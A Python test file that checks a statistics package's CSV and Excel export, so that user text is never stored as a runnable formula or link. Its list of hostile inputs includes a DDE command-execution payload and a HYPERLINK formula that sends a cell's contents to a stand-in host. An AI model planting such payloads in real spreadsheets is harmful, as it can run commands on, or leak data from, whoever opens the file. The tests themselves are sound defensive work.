"""What people write is shown, never run: in the CSV files and in the workbook."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import UTC, datetime

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from opened import opened

from irostats.formulas import could_run, literal, printable
from irostats.present.items import Table
from irostats.workbook import book
from irostats.workbook.sheets import Sheet
from irostats.workbook.values import grid
from irostats.workbook.writer import Workbook, quietly

STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", " =", "'=", '"=', ' "-', "\u00a0@", "\uff1d"]
HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://x.example/?"&A1,"press")',
    "@SUM(A1:A9)",
    "+cmd|' /C calc'!A0",
    "{=1+1}",
    "[press](http://x.example)",
    "[press](internal:Cover!A1)",
    "http://x.example",
    "$$note$$",
    "...",
    "\u65e5\u672c",
    "<b>&amp;</b>",
    "_x0041_",
    "-",
]
TEXT = st.one_of(
    st.text(st.characters(exclude_categories=["Cs"]), max_size=30),
    st.builds(str.__add__, st.sampled_from(STARTS), st.text("ab1()!|", max_size=9)),
    st.sampled_from(HOSTILE),
)


@given(TEXT)
def test_no_cell_of_a_csv_file_can_run(text: str) -> None:
    """Read back, no cell begins as a formula, after white space and quotes have been taken off."""
    file = io.StringIO(newline="")
    csv.writer(file, lineterminator="\n").writerow([literal(text), "end"])
    ((read, _),) = csv.reader(io.StringIO(file.getvalue(), newline=""))
    line = printable(text)
    assert not set(line) & set("\r\n\t\x00\x1b\u2028")
    assert read in (line, f"'{line}")
    stripped = read.lstrip(' \t\r\n\u00a0"')
    assert not stripped.startswith(("=", "+", "-", "@")) or read.startswith("'")


@pytest.mark.parametrize("start", STARTS)
def test_each_beginning_that_could_run_is_known(start: str) -> None:
    """Signs, white space before them, quotes before them, full-width signs."""
    assert could_run(f"{start}1")
    assert literal(f"{start}1").startswith("'")


@pytest.mark.parametrize("text", ["", "York", "2016-17", "reviews.held", "a=b", "\u2013 a dash"])
def test_what_cannot_run_is_left_as_it_is(text: str) -> None:
    """Only the beginning counts."""
    assert literal(text) == text


def written(*texts: str) -> bytes:
    """A workbook whose only table holds these texts, in title, note, headings and cells."""
    file = io.BytesIO()
    made = Workbook(file, options=book._NO_GUESSING)
    table = Table(
        texts[0], ("Theme", *texts), tuple((text, *["-3"] * len(texts)) for text in texts)
    )
    sheet = Sheet("Table 1", f"Table 1: {texts[0]}", table, tuple(texts))
    with quietly():
        laid_out = book._laid_out(sheet.title, table, (), sheet)
        made.add_worksheet("Table 1").write_gptable(laid_out, auto_width=False)
        made.close()
    return book._sealed(file.getvalue(), datetime(2022, 1, 1, tzinfo=UTC))


@settings(max_examples=60, deadline=None)
@given(st.lists(TEXT.filter(lambda text: bool(text.strip())), min_size=1, max_size=4, unique=True))
@example(HOSTILE)
@example([f"{start}1+1" for start in STARTS if start.strip()])
def test_every_text_of_a_workbook_is_text(texts: list[str]) -> None:
    """It reads back as it was written, as a string: no formula, no link; -3 is a number."""
    content = written(*texts)
    page = opened(content)["Table 1"]
    assert not any(cell.computed for cell in page.cells.values())
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        assert not any(
            "rels/sheet" in name and b"hyperlink" in package.read(name)
            for name in package.namelist()
        )
        assert b"<f>" not in package.read("xl/worksheets/sheet1.xml")
    _, *rows = page.table
    cells = grid(Table("", ("a",), tuple((text,) for text in texts)))
    wanted = [as_stored(row[0].text) for row in cells.rows]
    assert [row[0] for row in rows] == wanted
    first = page.last_row - len(texts) + 1
    assert all(page.cells[first, column].is_number for column in range(2, len(texts) + 2))


def as_stored(text: str) -> str:
    """Text on one line, as XML holds it: what looks like an escape is escaped."""
    return re.sub(r"(_x[0-9a-fA-F]{4}_)", lambda found: "_x005F" + found[0], printable(text))
